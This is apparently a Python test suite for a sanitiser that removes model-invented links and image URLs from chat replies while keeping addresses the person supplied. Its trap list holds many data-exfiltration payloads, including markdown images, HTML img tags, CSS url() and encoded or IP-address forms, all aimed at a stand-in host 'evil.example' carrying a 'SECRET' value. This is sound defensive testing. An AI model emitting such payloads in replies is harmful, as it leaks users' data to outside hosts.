"""What a model invents can't be clicked on or fetched, on any channel; what the person gave can."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.web.markdown import to_html
from core.reply.addresses import SHOWN_CHARS, addresses_in, key_of, trimmed
from core.reply.links import without_links
from tests.clickable import clickable

OWN = addresses_in(
    [
        "I read https://docs.python.org/3/ and [this](https://given.example/p?a=1).",
        "Write to me@given.example (see https://en.wikipedia.example/wiki/Muse_(myth)), or Www.Given.Example",
    ]
)
CANARY = "evil.example"


def strange(text: str) -> list[str]:
    """What anybody could click on, or a client would fetch, on any channel, that the person didn't give."""
    return [each for each in clickable(text) if key_of(trimmed(each)) not in OWN]


TRAPS = [
    f"https://{CANARY}/?q=SECRET",
    f"Look: http://SECRET.{CANARY}, now!",
    f"SECRET.{CANARY}",
    f"www.{CANARY}/SECRET",
    f"SECRET@{CANARY}",
    f"ftp://{CANARY}/SECRET",
    f"tg://resolve?domain={CANARY}",
    "http://3627734734/SECRET",
    "93.184.216.34/SECRET",
    f"![x](https://{CANARY}/?q=SECRET)",
    f"![](https://{CANARY}/?q=SECRET)",
    f'![a "b"](<https://{CANARY}/?q=SEC RET> "t")',
    f"[click](https://{CANARY}/?q=SECRET)",
    f"[click](mailto:SECRET@{CANARY})",
    f"[click](//{CANARY}/SECRET)",
    f"[https://docs.python.org/3/](https://{CANARY}/?q=SECRET)",
    f"[![x](https://{CANARY}/a.png)](https://{CANARY}/?q=SECRET)",
    f"<https://{CANARY}/?q=SECRET>",
    f"<SECRET@{CANARY}>",
    f"<https://{CANARY}/?q=SECRET|click>",
    f"[click][1] and [1] and ![1]\n\n[1]: https://{CANARY}/?q=SECRET",
    f"[1]: <https://{CANARY}/?q=SECRET> 'Title'\n\n[click][1]",
    f'<img src="https://{CANARY}/?q=SECRET">',
    f'Hello <img src="https://{CANARY}/?q=SECRET"> you',
    f'<a href="https://{CANARY}/?q=SECRET">click</a>',
    f"<div>\n<div style='background:url(https://{CANARY}/SECRET)'>\n<p>https://{CANARY}/SECRET",
    f"&#104;ttps://{CANARY}/SECRET",
    f"https&colon;//{CANARY}/SECRET",
    "SECRET.evil\\.example",
    f"\\https://{CANARY}/SECRET",
    f"**https://{CANARY}/**SECRET",
    f"https://{CANARY}/*SECRET*_x_~~y~~",
    f"| a |\n|---|\n| https://{CANARY}/a\\|SECRET |",
    f"| `a | https://{CANARY}/SECRET` |\n|---|---|\n| b | c |",
    f"`open https://{CANARY}/SECRET",
    f"`a`https://{CANARY}/SECRET`b`",
    f"``` https://{CANARY}/SECRET ` x",
    f"\\`https://{CANARY}/SECRET\\`",
    f"```https://{CANARY}/SECRET",
    f"    https://{CANARY}/SECRET",
    f"$https://{CANARY}/SECRET$ and $${CANARY}/SECRET$$",
    f"> - https://{CANARY}/SECRET\n> 1. [x](https://{CANARY}/SECRET)",
    f"# [x](https://{CANARY}/SECRET)\n\n- [ ] {CANARY}/SECRET",
    "https://docs.python.org/3/?q=SECRET",
    "https://docs.python.org/3/#SECRET",
    "https://docs.python.org/3/**SECRET**",
    "https://SECRET@docs.python.org/3/",
    "[x](https://docs.python.org/3/?q=SECRET)",
    f"https://{CANARY}/" + "SECRET" * 2_000,
    "`" * 40 + f"https://{CANARY}/SECRET" + "`" * 39,
    f"看https://{CANARY}/SECRET看",
    f"https://münchen.{CANARY}/SECRET",
]


@pytest.mark.parametrize("text", TRAPS)
def test_nothing_that_a_model_invents_can_be_clicked_on_or_fetched(text: str) -> None:
    shown = without_links(text, OWN)
    assert strange(shown) == []
    assert "<img" not in to_html(shown)
    assert without_links(shown, OWN) == shown
    assert strange(text) or "<img" in text or "![" in text, "the trap is none"


def test_a_long_address_is_cut_before_a_message_ends_amid_it() -> None:
    shown = without_links("see " * 1_000 + f"https://{CANARY}/" + "SECRET" * 2_000 + " end", OWN)
    assert len(shown) < 4 * 1_000 + SHOWN_CHARS + 20
    assert shown.endswith("…` end")


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.python.org/3/ first.",
        "Read docs.python.org/3 first, or (https://docs.python.org/3).",
        "[The docs](https://docs.python.org/3/) and <https://docs.python.org/3/>",
        "[1]: https://given.example/p?a=1\n\nSee [this][1], write to me@given.example.",
        "See https://en.wikipedia.example/wiki/Muse_(myth)",
        "**www.given.example**",
        "Plain text, e.g. 3.14 or z.B. U.S.A., a < b, *and* `code.py` …",
        "```html\n<img src='https://evil.example'>\n```",
        "`https://evil.example/x`",
        "<b>bold</b> 2*3*4 $5 and $6",
        "",
    ],
)
def test_what_the_person_gave_and_what_is_no_link_stay(text: str) -> None:
    assert without_links(text, OWN) == text


def test_words_stay_and_the_address_can_be_read() -> None:
    text = "Use [the manual](https://man.example/a) or see https://man.example/b. ![A cat](https://man.example/c)"
    assert without_links(text, frozenset()) == (
        "Use the manual (`https://man.example/a`) or see `https://man.example/b`. A cat"
    )
    assert (
        without_links("[https://man.example](https://man.example/)", frozenset()) == "`https://man.example`"
    )


PIECES = st.sampled_from(
    [
        *(
            f"https://{CANARY}/S",
            f"{CANARY}",
            "![",
            "](",
            "[",
            "]",
            ")",
            "(",
            "<",
            ">",
            "`",
            "``",
            "```",
            "\n",
        ),
        *(
            "\n\n",
            "\\",
            "*",
            "**",
            "_",
            "~~",
            "|",
            "|---|\n",
            "    ",
            "- ",
            "> ",
            "# ",
            "$",
            "$$",
            "~~~\n",
            ": ",
        ),
        *(
            "&#104;",
            "ttps://",
            "[1]: ",
            "[1]",
            "<img src=",
            '"',
            "'",
            "word",
            " ",
            "<!--",
            "-->",
            "<div>",
            "/S",
        ),
        *("https://docs.python.org/3/", "docs.python.org", "?q=S"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=24).map("".join))
def test_however_the_pieces_are_put_together_nothing_comes_through(text: str) -> None:
    shown = without_links(text, OWN)
    assert strange(shown) == []
